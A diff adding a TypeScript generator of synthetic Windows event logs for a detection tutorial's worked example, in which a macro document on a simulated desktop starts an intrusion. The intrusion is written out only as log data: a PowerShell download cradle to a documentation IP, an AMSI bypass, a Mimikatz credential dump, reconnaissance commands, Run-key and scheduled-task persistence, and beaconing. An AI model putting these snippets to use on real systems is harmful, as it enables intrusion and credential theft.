@@ -1,0 +1,197 @@
+import { type Actor, type Machine, machine } from './machine.ts';
+
+/** The host of the reference's worked example (section 16), and a colleague's on which nothing happens. */
+export const WORKED_EXAMPLE_HOST = 'DESKTOP-1NNIMRR';
+const QUIET_HOST = 'DESKTOP-4KQ7T2B';
+
+const SYSTEM32 = 'C:\\Windows\\System32';
+const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
+const TRACE = `${SYSTEM32}\\ntdll.dll+9d204|${SYSTEM32}\\KERNELBASE.dll+2c13e`;
+/** Addresses for documentation (RFC 5737): nothing of it can be reached. */
+const CONTROL_SERVER = { ip: '203.0.113.24', port: 443 };
+
+export interface WorkedExample {
+  /** Winlogbeat 7 lines in order of time. */
+  readonly lines: readonly string[];
+  /** Epoch seconds between which the attack acts. */
+  readonly attack: { readonly start: number; readonly end: number };
+}
+
+/**
+ * The worked example: two desktops in ordinary use from `start` (epoch seconds) on; after `quietSeconds` a
+ * document on one of them starts an encoded PowerShell that looks around, reads credentials and settles in.
+ */
+export function workedExample(start: number, quietSeconds = 240, seed = 7): WorkedExample {
+  const victim = machine(WORKED_EXAMPLE_HOST, `${WORKED_EXAMPLE_HOST}\\mara`, seed);
+  const colleague = machine(QUIET_HOST, `${QUIET_HOST}\\jonas`, seed + 1);
+  const attackStart = start + quietSeconds;
+  const attackEnd = attackStart + 95;
+  const end = attackEnd + 120;
+  ordinaryUse(colleague, start, end);
+  const { explorer, lsass } = ordinaryUse(victim, start, end);
+  intrusion(victim, explorer, lsass, attackStart);
+  const lines = [...victim.lines(), ...colleague.lines()].sort((a, b) => timeOf(a) - timeOf(b));
+  return { lines, attack: { start: attackStart, end: attackEnd } };
+}
+
+function timeOf(line: string): number {
+  return Date.parse((JSON.parse(line) as { '@timestamp': string })['@timestamp']);
+}
+
+/** What an office desktop does all day: services, a browser, a mail program, updates. */
+function ordinaryUse(desktop: Machine, start: number, end: number): { explorer: Actor; lsass: Actor } {
+  const { random } = desktop;
+  const services = desktop.running({
+    image: `${SYSTEM32}\\services.exe`,
+    commandLine: `${SYSTEM32}\\services.exe`,
+  });
+  const lsass = desktop.running({ image: `${SYSTEM32}\\lsass.exe`, commandLine: `${SYSTEM32}\\lsass.exe` });
+  const host = desktop.running({
+    image: `${SYSTEM32}\\svchost.exe`,
+    commandLine: `${SYSTEM32}\\svchost.exe -k netsvcs -p`,
+  });
+  const explorer = desktop.running({
+    image: 'C:\\Windows\\explorer.exe',
+    commandLine: 'C:\\Windows\\Explorer.EXE',
+    user: 'mara',
+    integrity: 'Medium',
+  });
+  const browser = desktop.running({
+    image: 'C:\\Program Files\\Mozilla Firefox\\firefox.exe',
+    commandLine: '"C:\\Program Files\\Mozilla Firefox\\firefox.exe"',
+    user: 'mara',
+    integrity: 'Medium',
+  });
+  const every = (seconds: number, act: (at: number) => void): void => {
+    for (let at = start + random() * seconds; at < end; at += seconds * (0.5 + random())) act(at);
+  };
+  every(4, (at) => desktop.opens(at, host, lsass, '0x1000', TRACE));
+  every(6, (at) =>
+    desktop.sets(
+      at,
+      host,
+      `HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\${Math.floor(random() * 40)}`,
+      'Binary Data',
+    ),
+  );
+  every(9, (at) => {
+    const site = `www.site${Math.floor(random() * 60)}.example`;
+    const ip = `198.51.100.${1 + Math.floor(random() * 200)}`;
+    desktop.asks(at, browser, site, ip);
+    desktop.connects(at + 0.1, browser, { ip, port: 443, name: site });
+  });
+  every(12, (at) =>
+    desktop.writes(
+      at,
+      browser,
+      `C:\\Users\\mara\\AppData\\Local\\Mozilla\\Firefox\\Profiles\\x1.default\\cache2\\entries\\${Math.floor(random() * 1e9).toString(16)}`,
+    ),
+  );
+  every(40, (at) => {
+    const task = desktop.spawns(at, host, {
+      image: `${SYSTEM32}\\taskhostw.exe`,
+      commandLine: 'taskhostw.exe',
+      user: 'NT AUTHORITY\\SYSTEM',
+      integrity: 'System',
+    });
+    desktop.loads(at + 0.05, task, `${SYSTEM32}\\dsreg.dll`);
+    desktop.ends(at + 8, task);
+  });
+  every(70, (at) => {
+    const updater = desktop.spawns(at, services, {
+      image: `${SYSTEM32}\\svchost.exe`,
+      commandLine: `${SYSTEM32}\\svchost.exe -k wusvcs -p`,
+      user: 'NT AUTHORITY\\SYSTEM',
+      integrity: 'System',
+    });
+    desktop.connects(at + 1, updater, { ip: '198.51.100.7', port: 443, name: 'update.example' });
+    desktop.ends(at + 20, updater);
+  });
+  every(55, (at) => {
+    const editor = desktop.spawns(at, explorer, {
+      image: `${SYSTEM32}\\notepad.exe`,
+      commandLine: '"C:\\Windows\\system32\\NOTEPAD.EXE" C:\\Users\\mara\\Documents\\list.txt',
+    });
+    desktop.writes(at + 9, editor, 'C:\\Users\\mara\\Documents\\list.txt');
+    desktop.ends(at + 15, editor);
+  });
+  return { explorer, lsass };
+}
+
+/** An encoded PowerShell out of a document, and what such a script usually does next. */
+function intrusion(desktop: Machine, explorer: Actor, lsass: Actor, start: number): void {
+  const script = `$c=New-Object Net.WebClient;IEX $c.DownloadString('https://${CONTROL_SERVER.ip}/a')`;
+  const encoded = Buffer.from(script, 'utf16le').toString('base64');
+  const word = desktop.spawns(start, explorer, {
+    image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
+    commandLine:
+      '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\mara\\Downloads\\invoice.docm"',
+  });
+  const shell = desktop.spawns(start + 4, word, {
+    image: POWERSHELL,
+    commandLine: `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${encoded}`,
+  });
+  for (const [index, module] of [
+    'System.Management.Automation.ni.dll',
+    'amsi.dll',
+    'clr.dll',
+    'mscoree.dll',
+  ].entries()) {
+    desktop.loads(start + 4.2 + index / 10, shell, `${SYSTEM32}\\${module}`);
+  }
+  desktop.runsScript(start + 5, shell, script);
+  desktop.runsScript(
+    start + 6,
+    shell,
+    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
+  );
+  for (let beacon = 0; beacon < 16; beacon++)
+    desktop.connects(start + 6 + beacon * 5.3, shell, CONTROL_SERVER);
+
+  const looksAround = [
+    'whoami /all',
+    'net user /domain',
+    'net localgroup administrators',
+    'nltest /domain_trusts',
+    'systeminfo',
+    'ipconfig /all',
+    'tasklist /svc',
+  ];
+  for (const [index, command] of looksAround.entries()) {
+    const at = start + 12 + index * 3;
+    const prompt = desktop.spawns(at, shell, {
+      image: `${SYSTEM32}\\cmd.exe`,
+      commandLine: `cmd.exe /c ${command}`,
+    });
+    const tool = desktop.spawns(at + 0.2, prompt, {
+      image: `${SYSTEM32}\\${command.split(' ')[0]}.exe`,
+      commandLine: command,
+    });
+    desktop.ends(at + 1, tool);
+    desktop.ends(at + 1.1, prompt);
+  }
+
+  const unbacked = `${SYSTEM32}\\ntdll.dll+9d204|${SYSTEM32}\\KERNELBASE.dll+2c13e|UNKNOWN(00000000025B0A1F)`;
+  for (let read = 0; read < 4; read++) desktop.opens(start + 40 + read, shell, lsass, '0x1010', unbacked);
+  desktop.runsScript(start + 42, shell, 'Invoke-Mimikatz -Command "sekurlsa::logonpasswords"');
+  desktop.writes(start + 48, shell, 'C:\\Users\\mara\\AppData\\Local\\Temp\\svchost32.exe');
+  desktop.sets(
+    start + 52,
+    shell,
+    'HKU\\S-1-5-21-1004\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
+    `powershell.exe -W Hidden -Enc ${encoded}`,
+  );
+  const scheduler = desktop.spawns(start + 58, shell, {
+    image: `${SYSTEM32}\\schtasks.exe`,
+    commandLine: `schtasks /create /sc onlogon /tn Updater /tr "powershell.exe -W Hidden -Enc ${encoded}"`,
+  });
+  desktop.ends(start + 59, scheduler);
+  const dropped = desktop.spawns(start + 66, shell, {
+    image: 'C:\\Users\\mara\\AppData\\Local\\Temp\\svchost32.exe',
+    commandLine: 'C:\\Users\\mara\\AppData\\Local\\Temp\\svchost32.exe',
+  });
+  desktop.loads(start + 66.1, dropped, 'C:\\Users\\mara\\AppData\\Local\\Temp\\svchost32.exe', false);
+  for (let beacon = 0; beacon < 5; beacon++)
+    desktop.connects(start + 67 + beacon * 5, dropped, CONTROL_SERVER);
+  desktop.ends(start + 95, shell);
+}
